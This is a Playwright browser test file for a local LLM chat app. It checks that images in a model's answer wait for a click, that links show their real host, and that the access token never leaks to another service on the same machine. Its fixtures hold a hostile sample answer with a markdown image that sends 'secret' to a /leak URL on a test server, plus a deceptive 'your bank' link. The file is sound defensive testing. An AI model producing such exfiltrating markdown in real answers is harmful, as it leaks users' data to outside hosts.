"""A hostile answer and a shared host, in Chromium: remote images wait for a click, links name their
real host, and the access token never reaches another service on the same host."""

from __future__ import annotations

import base64
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx2
import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import WAIT_MS, free_port
from tests.browser.steps import (
    add_provider,
    eventually,
    last_answer,
    open_chat,
    pick_models,
    screenshot,
    send,
    wait_until_answered,
)
from tests.fakes.server import Reply, Request, ServerThread

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")


class OtherService:
    """Another web server on 127.0.0.1 (another port): logs every request, answers with a tiny PNG."""

    def __init__(self) -> None:
        self.requests: list[Request] = []
        self._server = ServerThread(self._handle)

    async def _handle(self, request: Request) -> Reply:
        self.requests.append(request)
        return Reply(200, {"content-type": "image/png", "cache-control": "no-store"}, PNG)

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self._server.port}"


@pytest.fixture
def other_service() -> Iterator[OtherService]:
    service = OtherService()
    service._server.start()
    yield service
    service._server.stop()


def hostile_answer(ui: Page, api: httpx2.Client, fake_upstream, text: str) -> None:
    upstream = fake_upstream("openai", text=text, chunks=8, delay=0.02)
    add_provider(api, "Hostile", upstream.base_url, ["fake-model"])
    open_chat(ui)
    pick_models(ui, "fake-model (Hostile)")
    send(ui, "Summarise the page I pasted")
    wait_until_answered(ui)


def assert_still_no_request(service: OtherService) -> None:
    time.sleep(0.5)  # an image would be requested as soon as it is in the page
    assert service.requests == []


def test_an_image_in_an_answer_is_fetched_only_when_clicked(
    ui: Page, api: httpx2.Client, fake_upstream, other_service
) -> None:
    host = other_service.host
    hostile_answer(ui, api, fake_upstream,
                   f"Summary.\n\n![x](http://{host}/leak?q=secret)\n\n[your bank](http://{host}/login) and "
                   f"![inline](data:image/png;base64,{base64.b64encode(PNG).decode()})\n")  # fmt: skip
    assert_still_no_request(other_service)
    answer = last_answer(ui)
    load = answer.get_by_role("button", name=f"Load image from {host}")
    expect(load).to_be_visible()
    expect(answer).to_contain_text(f"Image from {host} (not loaded): x")
    expect(answer.get_by_role("img", name="inline")).to_be_visible()  # data: images show as they are
    link = answer.get_by_role("link", name="your bank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answer.locator(".link-host")).to_have_text(f" ({host})")
    screenshot(ui, "image-placeholder.png")

    ui.reload()
    answer = last_answer(ui)
    load = answer.get_by_role("button", name=f"Load image from {host}")
    expect(load).to_be_visible()
    assert_still_no_request(other_service)

    load.click()
    image = answer.get_by_role("img", name="x")
    expect(image).to_be_visible()
    eventually(lambda: image.evaluate("node => node.complete && node.naturalWidth > 0"), "the image did not load")
    time.sleep(0.3)
    assert [request.target for request in other_service.requests] == ["/leak?q=secret"]


def test_always_load_from_a_host_until_removed_in_settings(
    ui: Page, api: httpx2.Client, fake_upstream, other_service
) -> None:
    host = other_service.host
    hostile_answer(ui, api, fake_upstream, f"![chart](http://{host}/chart.png)\n\n![other](http://{host}/other.png)\n")
    answer = last_answer(ui)
    answer.get_by_role("button", name=f"Always load from {host}").first.click()
    expect(answer.get_by_role("img", name="chart")).to_be_visible()
    expect(answer.get_by_role("img", name="other")).to_be_visible()  # the same host: both
    eventually(lambda: len(other_service.requests) == 2, "both images load")
    assert api.get("/settings/trusted-image-hosts").json() == {"hosts": [host]}

    conversation = ui.url
    ui.reload()
    expect(last_answer(ui).get_by_role("img", name="chart")).to_be_visible()  # no click needed any more

    ui.get_by_role("link", name="Settings").click()
    ui.get_by_role("tab", name="Images").click()
    hosts = ui.get_by_role("list", name="Hosts whose images load without a click")
    expect(hosts.get_by_role("listitem")).to_have_text([f"{host}Remove"])
    ui.get_by_role("button", name=f"Remove {host}").click()
    expect(ui.get_by_text("No hosts: every image from a model's answer waits for a click.")).to_be_visible()
    assert api.get("/settings/trusted-image-hosts").json() == {"hosts": []}

    seen = len(other_service.requests)
    ui.goto(conversation)
    expect(last_answer(ui).get_by_role("button", name=f"Load image from {host}")).to_have_count(2)
    assert_still_no_request_after(other_service, seen)


def assert_still_no_request_after(service: OtherService, seen: int) -> None:
    time.sleep(0.5)
    assert len(service.requests) == seen


@pytest.fixture
def served_with_token(drupe_home: Path, tmp_path: Path) -> Iterator[tuple[str, str, str]]:
    """`drupe serve` with an access token (DRUPE_TOKEN is honoured on loopback too):
    (url, token, the link it printed)."""
    token = "tok-" + os.urandom(12).hex()
    port = free_port()
    log = tmp_path / "serve.log"
    env = {**os.environ, "DRUPE_HOME": str(drupe_home), "DRUPE_TOKEN": token}
    with log.open("wb") as output:
        process = subprocess.Popen([sys.executable, "-m", "drupe", "serve", "--port", str(port), "--no-local"],
                                   env=env, stdout=output, stderr=subprocess.STDOUT)  # fmt: skip
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + WAIT_MS / 1000
        while True:
            try:
                if (
                    httpx2.get(f"{url}/api/meta", headers={"authorization": f"Bearer {token}"}, timeout=2).status_code
                    == 200
                ):
                    break
            except httpx2.HTTPError:
                pass
            assert process.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.1)
        printed = log.read_text().splitlines()[0]
        assert printed.startswith("drupe is running at "), printed
        yield url, token, printed.split()[4]
    finally:
        process.terminate()
        process.wait(timeout=10)


def test_the_access_token_never_reaches_another_port(browser, served_with_token, other_service) -> None:
    url, token, link = served_with_token
    created = httpx2.post(f"{url}/api/providers", json={"name": "Mine", "type": "openai", "base_url": "http://127.0.0.1:9"},
                          headers={"authorization": f"Bearer {token}"})  # fmt: skip
    assert created.status_code == 201, created.text
    context = browser.new_context()
    context.set_default_timeout(WAIT_MS)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    try:
        page.goto(link)
        page.get_by_role("link", name="Settings").click()
        providers = page.get_by_role("complementary", name="Providers")
        expect(providers.get_by_role("link", name="Mine", exact=True)).to_be_visible()  # the API took the token
        assert token not in page.url

        page.goto(f"http://{other_service.host}/after-drupe")
        page.evaluate("fetch('/fetched', {credentials: 'include'})")
        eventually(lambda: len(other_service.requests) >= 2, "the other service was visited")
        for request in other_service.requests:
            assert token not in repr(request.headers), request.headers
        assert context.cookies() == []

        # A tab opened without the link asks for the token instead of failing everywhere.
        fresh = context.new_page()
        fresh.goto(f"{url}/settings/providers")
        dialog = fresh.get_by_role("dialog", name="Access token")
        dialog.get_by_role("textbox").fill(token)
        dialog.get_by_role("button", name="Continue").click()
        expect(
            fresh.get_by_role("complementary", name="Providers").get_by_role("link", name="Mine", exact=True)
        ).to_be_visible()
        assert context.cookies() == []
    finally:
        context.close()
    assert not errors, errors
